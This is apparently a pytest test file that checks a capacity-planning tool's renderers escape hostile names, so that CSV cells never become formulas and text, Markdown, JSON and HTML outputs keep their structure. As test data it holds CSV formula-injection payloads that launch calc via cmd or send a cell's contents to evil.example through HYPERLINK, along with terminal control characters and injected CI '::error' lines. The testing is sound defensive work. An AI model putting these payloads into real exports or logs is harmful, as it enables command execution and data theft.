"""Every renderer keeps file text as text: hostile customer, company and resource names never
change an output's structure (lines, table rows and cells, CSV rows, HTML tags) and never
crash it; CSV cells are never formulas (issue 18)."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import BaseModel
from rich.console import Console, RenderableType

from feasibility.engine.check import check_deals
from feasibility.engine.impact import compare
from feasibility.engine.load import load_report
from feasibility.engine.pipeline import check_pipeline
from feasibility.render import export, heatmap, impact, json_out, markdown, pipeline, text
from feasibility.render.timeline import check_view
from feasibility.safe import code, csv_cell, visible
from feasibility.safe import markdown as md_cell
from feasibility.workspace import load_deals, load_workspace
from tests.conftest import AS_OF, CliRunner, repository_copy
from tests.strategies import property_settings

REPO = Path(__file__).resolve().parent.parent
NAMES = (
    "Brightline Systems",  # company
    "Metro Transit Authority",  # a customer
    "Installation crews",  # a resource name
    "Sam Reyes <sam.reyes@example.com>",  # an owner
)
HOSTILE = [
    "\r", "\n", "\r\n", "\x00", "\x07", "\x1b", "\x7f", "\x85", "\x9b", "\u202e", "\u2066",
    "\u2067", "\u2068", "\u2069", "\u200b", "\u200d", "\ufeff", "\u2028", "[", "]", "[/]",
    "[link=javascript:alert(1)]", "[/link]", "|", "<", ">", "<!--", "`", "``", "=", "+", "-",
    "@", "\t", "\\", "*", "_", "#", "&", "!", "a", "é",
]  # fmt: skip
hostile = st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=8).map("".join)
SETTINGS = property_settings(3)
INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]")


def substitute(obj: Any, names: dict[str, str]) -> Any:
    """``obj`` with every occurrence of each name replaced, in every string it holds."""
    if isinstance(obj, str):
        for old, new in names.items():
            obj = obj.replace(old, new)
        return obj
    if isinstance(obj, BaseModel):
        keys = type(obj).model_fields
        return obj.model_copy(update={k: substitute(getattr(obj, k), names) for k in keys})
    if dataclasses.is_dataclass(obj) and not isinstance(obj, type):
        fields = [f.name for f in dataclasses.fields(obj) if f.init]
        return dataclasses.replace(obj, **{k: substitute(getattr(obj, k), names) for k in fields})
    if isinstance(obj, tuple):
        return tuple(substitute(v, names) for v in obj)
    if isinstance(obj, list):
        return [substitute(v, names) for v in obj]
    if isinstance(obj, dict):
        return {substitute(k, names): substitute(v, names) for k, v in obj.items()}
    return obj


class Results(dict[str, Any]):
    """The results by command, shown short in hypothesis's reports."""

    def __repr__(self) -> str:
        return "results"


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One result of each command, computed once on a copy of the repository (impact with one
    crew fewer, so that bookings get worse)."""
    folder = repository_copy(tmp_path_factory.mktemp("repo"))
    ws = load_workspace(folder / "capacity.yaml")
    deals = [d.deal for d in load_deals([folder / "examples/late.yaml"])]
    model, booked = ws.capacity.model, ws.booked_deals
    edited = folder / "edited"
    edited.mkdir()
    shutil.copytree(folder / "bookings", edited / "bookings")
    capacity = (folder / "capacity.yaml").read_text()
    (edited / "capacity.yaml").write_text(capacity.replace("per_day: 2 ", "per_day: 1 ", 1))
    return Results(
        check=check_deals(model, booked, deals, AS_OF),
        pipeline=check_pipeline(model, booked, deals * 2, AS_OF, lines=[2, 3]),
        impact=compare(ws, load_workspace(edited / "capacity.yaml"), AS_OF),
        load=load_report(model, booked, AS_OF, deal=deals[0]),
    )


def rich_text(renderable: RenderableType) -> str:
    console = Console(width=3000, file=io.StringIO(), color_system=None, markup=False)
    console.print(renderable)
    out = console.file.getvalue()  # type: ignore[attr-defined]
    return str(out)


TEXT: dict[str, Callable[[Any], RenderableType]] = {
    "check": lambda r: check_view(r, show_schedule=True, show_timeline=True),
    "pipeline": lambda r: pipeline.pipeline_text(r, "pipeline.csv"),
    "impact": impact.impact_text,
    "load": heatmap.load_text,
}
MARKDOWN: dict[str, Callable[[Any], str]] = {
    "check": markdown.check_markdown,
    "pipeline": lambda r: pipeline.pipeline_markdown(r, "pipeline.csv"),
    "impact": impact.impact_markdown,
}
JSON: dict[str, Callable[[Any], str]] = {
    "check": json_out.check_json,
    "pipeline": lambda r: pipeline.pipeline_json(r, "pipeline.csv"),
    "impact": impact.impact_json,
    "load": heatmap.load_json,
}
CSV: dict[str, Callable[[Any], str]] = {
    "pipeline": pipeline.pipeline_csv,
    "load": heatmap.load_csv,
}


def both(results: dict[str, Any], name: str, evil: str) -> tuple[Any, Any]:
    """The result with benign names ('x') and with the hostile ones."""
    result = results[name]
    return (
        substitute(result, dict.fromkeys(NAMES, "x")),
        substitute(result, dict.fromkeys(NAMES, evil)),
    )


@SETTINGS
@given(evil=hostile)
@pytest.mark.parametrize("name", sorted(TEXT))
def test_text_keeps_its_lines_and_shows_no_control(
    results: dict[str, Any], name: str, evil: str
) -> None:
    """Against names of as many plain letters as the hostile ones show (the same wrapping)."""
    plain = rich_text(
        TEXT[name](substitute(results[name], dict.fromkeys(NAMES, "x" * len(visible(evil)))))
    )
    bad = rich_text(TEXT[name](substitute(results[name], dict.fromkeys(NAMES, evil))))
    assert len(bad.splitlines()) == len(plain.splitlines())
    assert not INVISIBLE.search(bad)
    assert "\u2028" not in bad and "\r" not in bad


def blocks(source: str) -> list[tuple[str, int]]:
    """The markdown's block structure: each token's type and nesting, inline html and links
    counted as blocks of their own."""
    out: list[tuple[str, int]] = []
    for token in MarkdownIt("commonmark").enable("table").parse(source):
        out.append((token.type, token.nesting))
        for child in token.children or ():
            if child.type in {"html_inline", "link_open", "image", "code_inline"}:
                out.append((child.type, child.nesting))
    return out


@SETTINGS
@given(evil=hostile)
@pytest.mark.parametrize("name", sorted(MARKDOWN))
def test_markdown_keeps_its_rows_cells_and_blocks(
    results: dict[str, Any], name: str, evil: str
) -> None:
    plain, bad = (MARKDOWN[name](r) for r in both(results, name, evil))
    assert len(bad.splitlines()) == len(plain.splitlines())
    assert blocks(bad) == blocks(plain)


@SETTINGS
@given(evil=hostile)
@pytest.mark.parametrize("name", sorted(JSON))
def test_json_keeps_the_text_exactly(results: dict[str, Any], name: str, evil: str) -> None:
    """Lines as Python counts them (U+0085, U+2028 end one): JSON escapes them raw."""
    plain, bad = (JSON[name](r) for r in both(results, name, evil))
    assert len(bad.splitlines()) == len(plain.splitlines())
    assert not INVISIBLE.search(bad)
    assert json.loads(bad).keys() == json.loads(plain).keys()


def test_json_escapes_line_separators_and_keeps_the_value(results: dict[str, Any]) -> None:
    evil = "a\x85b\u2028c\u2029d\u202ee"
    out = json_out.check_json(substitute(results["check"], {NAMES[1]: evil}))
    assert not re.search("[\x85\u2028\u2029\u202e]", out)
    assert "a\\u0085b\\u2028c\\u2029d\\u202ee" in out
    assert json.loads(out)["deals"][0]["customer"] == evil


@SETTINGS
@given(evil=hostile)
@pytest.mark.parametrize("name", sorted(CSV))
def test_csv_keeps_rows_and_cells_and_holds_no_formula(
    results: dict[str, Any], name: str, evil: str
) -> None:
    plain, bad = (list(csv.reader(io.StringIO(CSV[name](r)))) for r in both(results, name, evil))
    assert [len(row) for row in bad] == [len(row) for row in plain]
    assert not [c for row in bad for c in row if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]


@SETTINGS
@given(evil=hostile)
def test_github_annotations_stay_one_line_each(results: dict[str, Any], evil: str) -> None:
    """The runner reads lines at CR and LF only: each annotation stays one of them."""
    plain, bad = (impact.impact_github(r).split("\n") for r in both(results, "impact", evil))
    assert [ln[:9] for ln in bad] == [ln[:9] for ln in plain]
    assert "\r" not in "".join(bad)


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)


def tags(page: str) -> list[str]:
    parser = Tags()
    parser.feed(page)
    return parser.tags


@property_settings(10)
@given(evil=hostile)
def test_pictures_keep_their_tags(results: dict[str, Any], evil: str) -> None:
    plain, bad = both(results, "check", evil)
    page = export.html(text.check_text(bad), title=evil)
    assert set(tags(page)) == set(tags(export.html(text.check_text(plain), title="x")))
    ElementTree.fromstring(export.svg(text.check_text(bad), title=evil))


def test_a_markup_customer_is_text_on_a_terminal(results: dict[str, Any]) -> None:
    """The reproduction: a customer '[/]' made check exit 4; a link tag became a link."""
    bad = substitute(results["check"], {"Metro Transit Authority": "[/]"})
    assert "BL-2027-002 · [/] ·" in rich_text(text.check_text(bad))
    link = "[link=https://evil.example/login]Acme Corp[/link]"
    page = export.html(text.check_text(substitute(results["check"], {NAMES[1]: link})), "x")
    assert "<a " not in page and "Acme Corp[/link]" in page


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("https://evil.example/?x="&A1,"x")', '\'=HYPERLINK("https://evil.example/?x="&A1,"x")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1", "'+1"), ("-1", "'-1"), ("\tx", "'\\tx"), ("a\rb", "a\\rb"), ("Acme", "Acme"),
        (-1, -1),
    ],
)  # fmt: skip
def test_csv_cells_are_never_formulas(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a\nb", "a\\nb"), ("a\rb", "a\\rb"), ("\x85", "\\x85"), ("\u202eabc", "\\u202eabc"),
        ("\u2066x\u2069", "\\u2066x\\u2069"), ("a\u200bb", "a\\u200bb"), ("\udcff", "\\xff"),
    ],
)  # fmt: skip
def test_visible_shows_every_invisible_character(raw: str, shown: str) -> None:
    assert visible(raw) == shown


def test_markdown_escapes_what_commonmark_reads() -> None:
    assert md_cell("a|b") == "a\\|b"
    assert md_cell("x\r<!-- y") == "x\\\\r\\<\\!-- y"
    assert md_cell("[a](javascript:x)") == "\\[a\\](javascript:x)"
    assert md_cell("- item") == "\\- item"
    assert code("a`b|c") == "``a`b\\|c``"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A copy of the repository with the at-risk deal's customer named '[/]' and the company
    and a resource name carrying markup and a line break."""
    folder = repository_copy(tmp_path)
    deal = (folder / "examples/on-time.yaml").read_text()
    deal = re.sub(r"(?m)^customer: .*$", 'customer: "[/]"', deal)
    (folder / "deal.yaml").write_text(deal)
    capacity = (folder / "capacity.yaml").read_text()
    capacity = capacity.replace("company: Brightline Systems", 'company: "[/]\\n::error::x"')
    capacity = capacity.replace("name: Installation crews", 'name: "[/]"')
    (folder / "capacity.yaml").write_text(capacity)
    return folder


@pytest.mark.parametrize(
    "args",
    [
        ("check", "deal.yaml"),
        ("check", "deal.yaml", "--timeline", "--format", "markdown"),
        ("book", "deal.yaml"),
        ("load", "--with", "deal.yaml"),
        ("validate", "deal.yaml"),
    ],
)
def test_markup_and_line_breaks_in_files_are_text(
    cli: CliRunner, workspace: Path, args: tuple[str, ...]
) -> None:
    """The reproduction of issue 18: '[/]' made check, book and pipeline exit 4; a company
    with a line break started a line of its own."""
    done = cli(*args, "--as-of", AS_OF.isoformat(), cwd=workspace)
    assert done.returncode == 0, done.stderr
    assert "internal error" not in done.stderr
    assert not [ln for ln in done.stdout.splitlines() if ln.startswith("::error")]


def test_a_pipeline_csv_never_writes_a_formula(cli: CliRunner, workspace: Path) -> None:
    (workspace / "p.csv").write_text(
        "id,customer,owner,offering,quantity,due,features\n"
        'BL-1,"=HYPERLINK(""https://evil.example/?x=""&A1,""x"")",o,training,1,2027-04-16,\n'
        "BL-2,[/],@SUM(1+1)*cmd|' /C calc'!A0,training,1,2027-04-16,\n"
    )
    done = cli("pipeline", "p.csv", "--format", "csv", "--as-of", AS_OF.isoformat(), cwd=workspace)
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert [r[2:4] for r in rows[1:]] == [
        ['\'=HYPERLINK("https://evil.example/?x="&A1,"x")', "o"],
        ["[/]", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ]
    text_out = cli("pipeline", "p.csv", "--as-of", AS_OF.isoformat(), cwd=workspace)
    assert text_out.returncode == 0, text_out.stderr


def test_a_load_csv_never_writes_a_unit_as_a_formula(cli: CliRunner, workspace: Path) -> None:
    """Issue 18: `load --format csv` wrote a resource's `unit` verbatim."""
    capacity = workspace / "capacity.yaml"
    formula = "=cmd|' /C calc'!A0"
    text_in = capacity.read_text()
    capacity.write_text(text_in.replace("unit: crews", f'unit: "{formula}"', 1))
    done = cli("load", "--format", "csv", "--as-of", AS_OF.isoformat(), cwd=workspace)
    assert done.returncode == 0, done.stderr
    units = {row[1] for row in csv.reader(io.StringIO(done.stdout))}
    assert "'" + formula in units and formula not in units


@pytest.mark.parametrize("fmt", ["text", "markdown"])
def test_impact_keeps_a_company_line_break_on_its_line(
    cli: CliRunner, workspace: Path, fmt: str
) -> None:
    """Issue 18: a company with a line break started a line of its own in `impact`."""
    done = cli("impact", REPO / "capacity.yaml", "capacity.yaml", "-f", fmt, cwd=workspace)
    assert done.returncode in {0, 1}, done.stderr
    assert not [ln for ln in done.stdout.splitlines() if ln.lstrip("|# ").startswith("::error")]


def test_a_pipeline_customer_reaches_the_terminal_as_text(cli: CliRunner, workspace: Path) -> None:
    """Issue 18: C1 controls from a CSV, bidi overrides, zero-width characters and line
    breaks reached the terminal raw."""
    evil = "a\x9b31m\u202eb\u200bc\n::error file=x::d"
    (workspace / "p.csv").write_text(
        f'id,customer,offering,quantity,due\nBL-1,"{evil}",training,1,2027-04-16\n'
    )
    done = cli("pipeline", "p.csv", "--as-of", AS_OF.isoformat(), cwd=workspace)
    assert done.returncode == 0, done.stderr
    assert not INVISIBLE.search(done.stdout)
    assert not [ln for ln in done.stdout.splitlines() if ln.lstrip("│ ").startswith("::error")]
    assert "BL-1 a\\x9b31m\\u202eb\\u200bc\\" in done.stdout  # cut to the column's width
